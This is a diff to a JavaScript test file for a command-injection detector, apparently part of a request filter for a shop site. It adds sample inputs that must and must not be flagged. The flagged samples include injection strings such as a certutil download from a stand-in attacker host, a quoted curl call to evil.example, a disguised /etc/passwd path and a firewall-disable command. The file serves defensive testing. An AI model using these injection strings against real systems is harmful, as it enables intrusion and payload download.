@@ -36,6 +36,37 @@ test('injection shapes are found', () => {
     'Invoke-WebRequest http://example.com/a.ps1',
     '; certutil -urlcache -f http://evil.example/p.exe',
     'whoami',
+    // an unknown command with an option or a path after a separator, quoted command names
+    ';perf --version',
+    ";'rmt' --version",
+    '|flock -u / whoami',
+    ";'curl' http://evil.example",
+    // a program path in a system binary directory; a command then a separator
+    '/bin/unxz -c /var/log/x.xz',
+    'bin/visudo',
+    'whoami;0',
+    // a command line on the first of several lines
+    'ansible all -m ping\n',
+    'time ifconfig\n',
+    // Windows administration, batch loops with several switches, if/i
+    'net view',
+    'netsh firewall set opmode disable',
+    'FOR /D /r %G in ("User*") DO Echo We found %G',
+    'if/i a==b foo',
+    // a one-letter class spelling a system path
+    '/etc/pas[s]wd',
+    // a command with a shell argument after any separator; which; a quote break-out
+    '& ls -l /tmp',
+    '& dir C:\\Users',
+    '&& pwd',
+    'which python',
+    "' whoami",
+    // newlines written out
+    '\\nid\\n',
+    '\\n/usr/bin/id;',
+    // a word the shell expands into a command
+    'c{a,oun}t /etc/hosts',
+    '{l,-lh}s',
   ])
     assert.notEqual(detectCmdi(s), null, s);
 });
@@ -62,6 +93,23 @@ test('shop searches, filters and prose are not commands', () => {
     '{{gift}}',
     '/catalog/*/view',
     'summer-sale-2024',
+    'wget',
+    'ruby',
+    'python',
+    'net curtain',
+    'time machine --',
+    'size; --large',
+    'colour: red; size -- large',
+    'bin/liners',
+    'recycle-bin/x',
+    'dust bin/lid',
+    'alias name',
+    'c:\\new folder',
+    'which colour',
+    "' whom it may concern",
+    'tom & jerry -the movie',
+    'size{s,m}',
+    'shirt {red,blue}',
   ])
     assert.equal(detectCmdi(s), null, s);
 });
@@ -71,6 +119,10 @@ test('the rule condition finds it in a path segment, a query value and JSON in a
   assert.match(matchStructure('cmdi', 'target', '/api/v1/x;whoami') ?? '', /whoami/);
   assert.match(matchStructure('cmdi', 'target', '/r?q={"a":"$(id)"}') ?? '', /substitution/);
   assert.equal(matchStructure('cmdi', 'target', '/search?q=cat+food&page=2'), null);
+  // a value routed into the path with slashes of its own is read from its first segment on
+  assert.match(matchStructure('cmdi', 'target', '/p/id/for%20/f%20%25i%20in%20(x)%20do%20y') ?? '', /batch for/);
+  assert.equal(matchStructure('cmdi', 'target', '/blog/tags/ruby'), null);
+  assert.equal(matchStructure('cmdi', 'target', '/scripts/python/wrap/?C=N;O=D'), null);
 });
 
 const commands = ['whoami', 'uname', 'wget', 'curl', 'netstat', 'ifconfig', 'certutil'];
@@ -106,9 +158,26 @@ test('property: words and numbers without shell syntax never match', () => {
         // a recon command alone, or a lead command with a number, is a command on purpose
         fc.pre(!/^(?:whoami|ifconfig|ipconfig|systeminfo|tasklist|netstat|uname)$/.test(s));
         fc.pre(!/^(?:sleep|ping|timeout) \d+$/.test(s));
+        fc.pre(!/^net (?:view|users?|localgroup|group|share|use|session|accounts|config|start|stop)\b/.test(s));
+        fc.pre(!/^route (?:print|add|delete)\b/.test(s));
+        fc.pre(!/^sc (?:query|qc|create|config|start|stop)\b/.test(s));
         assert.equal(detectCmdi(s), null, s);
       },
     ),
     { numRuns: 2000 },
+  );
+});
+
+test('property: a separator, any command-shaped word and an option or a path is a command line', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(';', '|', '&&', '\n'),
+      fc.stringMatching(/^[a-z][a-z0-9-]{1,12}$/),
+      fc.constantFrom('--version', '-x', '-la', '/tmp/a', '/'),
+      fc.constantFrom('', "'", '"'),
+      (sep, cmd, arg, q) => {
+        assert.notEqual(detectCmdi(`x${sep}${q}${cmd}${q} ${arg}`), null, `x${sep}${q}${cmd}${q} ${arg}`);
+      },
+    ),
   );
 });
